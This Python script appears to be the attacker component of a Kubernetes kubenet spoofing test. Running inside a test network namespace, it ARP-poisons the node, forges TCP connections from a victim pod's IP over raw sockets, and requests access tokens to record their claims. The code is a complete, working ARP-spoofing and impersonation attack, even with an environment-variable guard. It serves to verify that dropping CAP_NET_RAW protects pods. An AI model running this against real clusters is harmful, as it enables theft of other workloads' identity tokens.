#!/usr/bin/env python3
"""The attacker of the kubenet spoofing drill (test/netns/spoofing.netns.ts), run inside the attacker pod's
network namespace that the test created. With CAP_NET_RAW it does what a pod on a kubenet bridge can do:

1. ARP-poisons the node: ARP requests "who-has <node> tell <victim IP> at <my MAC>", repeated, so the node
   sends the victim's traffic to this pod's MAC;
2. speaks TCP by hand from the victim's address (raw Ethernet frames out, AF_PACKET capture in: the kernel of
   this namespace drops packets for an address it does not own, so it never resets the connection);
3. sends one HTTP GET per attempt and reports what came back: the status, the error, and the claims of any
   token (never the token itself).

Without CAP_NET_RAW the first socket fails, which is the point of dropping it; the tool reports that.
Refuses to run outside the drill: PODID_IN_TEST_NETNS must be set, and it sends only on the interface named.
Standard library only. Prints one JSON object.
"""

import base64
import json
import os
import random
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
PACKET_OUTGOING = 4
SYN, ACK, PSH, FIN, RST = 0x02, 0x10, 0x08, 0x01, 0x04


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(mac: str) -> bytes:
    return bytes(int(x, 16) for x in mac.split(":"))


def ip_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq, ack, flags, payload=b""):
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + payload)) + tcp[18:]
    total = 20 + len(tcp) + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randint(0, 0xFFFF), 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp + payload


def arp_request(my_mac, claimed_ip, target_mac, target_ip):
    """'who-has target_ip tell claimed_ip' from my_mac: the target updates claimed_ip → my_mac."""
    body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, my_mac, socket.inet_aton(claimed_ip), b"\0" * 6, socket.inet_aton(target_ip))
    return target_mac + my_mac + struct.pack("!H", ETH_P_ARP) + body


def parse_tcp(frame):
    if len(frame) < 54 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ihl = (frame[14] & 0x0F) * 4
    if frame[23] != 6:
        return None
    src, dst = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
    t = 14 + ihl
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", frame[t : t + 14])
    total = struct.unpack("!H", frame[16:18])[0]
    payload = frame[t + (off >> 4) * 4 : 14 + total]
    return src, dst, sport, dport, seq, ack, flags, payload


def claims_of(token):
    try:
        part = token.split(".")[1]
        return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except Exception:
        return {}


def attempt(sock, a, sport, deadline):
    """One forged connection: handshake, request, collect the response. Returns (status, body) or None."""
    my_mac, gw_mac = a["my_mac"], a["gw_mac"]
    isn = random.randint(0, 2**31)
    send = lambda seq, ack, flags, payload=b"": sock.send(ip_frame(my_mac, gw_mac, a["victim_ip"], a["dst_ip"], sport, a["dst_port"], seq, ack, flags, payload))
    send(isn, 0, SYN)
    server_seq = None
    data = {}
    request = a["request"]
    done = False
    while time.time() < deadline and not done:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            frame, addr = sock.recvfrom(65535)
        except socket.timeout:
            break
        if addr[2] == PACKET_OUTGOING:
            continue
        seg = parse_tcp(frame)
        if not seg:
            continue
        src, dst, s_port, d_port, seq, ack, flags, payload = seg
        if dst != a["victim_ip"] or s_port != a["dst_port"] or d_port != sport:
            continue
        if flags & RST:
            return None
        if server_seq is None:
            if flags & SYN and flags & ACK:
                server_seq = seq + 1
                send(isn + 1, server_seq, ACK | PSH, request)
            continue
        if payload:
            data[seq] = payload
        nxt = server_seq + sum(len(p) for p in data.values())
        if flags & FIN:
            done = True
            nxt += 1
        send(isn + 1 + len(request), nxt, ACK)
        text = b"".join(data[k] for k in sorted(data))
        head, _, body = text.partition(b"\r\n\r\n")
        length = [int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
        if length and len(body) >= length[0]:
            done = True
    if server_seq is not None:
        send(isn + 1 + len(request), 0, RST)
    text = b"".join(data[k] for k in sorted(data))
    if not text:
        return None
    head, _, body = text.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/1.1 ") else 0
    return status, body


def main():
    if os.environ.get("PODID_IN_TEST_NETNS") != "1":
        sys.exit("spoof.py runs only inside the spoofing drill's network namespaces")
    a = json.loads(sys.argv[1])
    out = {"raw_socket": False, "attempts": 0, "responses": []}
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        sock.bind((a["interface"], 0))
    except PermissionError as err:
        out["error"] = f"no raw socket: {err}"
        print(json.dumps(out))
        return
    out["raw_socket"] = True
    with open(f"/sys/class/net/{a['interface']}/address") as f:
        a["my_mac"] = mac_bytes(f.read().strip())
    a["gw_mac"] = mac_bytes(a["gateway_mac"])
    headers = "".join(f"{k}: {v}\r\n" for k, v in a.get("headers", {}).items())
    a["request"] = f"GET {a['path']} HTTP/1.1\r\nHost: {a['dst_ip']}\r\n{headers}Connection: close\r\n\r\n".encode()

    stop = threading.Event()
    poison = arp_request(a["my_mac"], a["victim_ip"], a["gw_mac"], a["gateway_ip"])

    def keep_poisoning():
        while not stop.is_set():
            sock.send(poison)
            stop.wait(0.1)

    threading.Thread(target=keep_poisoning, daemon=True).start()
    time.sleep(1.5)  # past the node's ARP locktime (1 s), so the override takes
    end = time.time() + a.get("budget_seconds", 20)
    for i in range(a["attempts"]):
        if time.time() > end:
            break
        out["attempts"] += 1
        result = attempt(sock, a, random.randint(20000, 60000), min(end, time.time() + 3))
        if result is None:
            out["responses"].append({"status": 0})
            continue
        status, body = result
        entry = {"status": status}
        try:
            doc = json.loads(body)
            if "access_token" in doc:
                entry["claims"] = {k: claims_of(doc["access_token"]).get(k) for k in ("oid", "appid", "aud")}
            if "error" in doc:
                entry["error"] = doc["error"]
        except ValueError:
            pass
        out["responses"].append(entry)
    stop.set()
    print(json.dumps(out))


main()
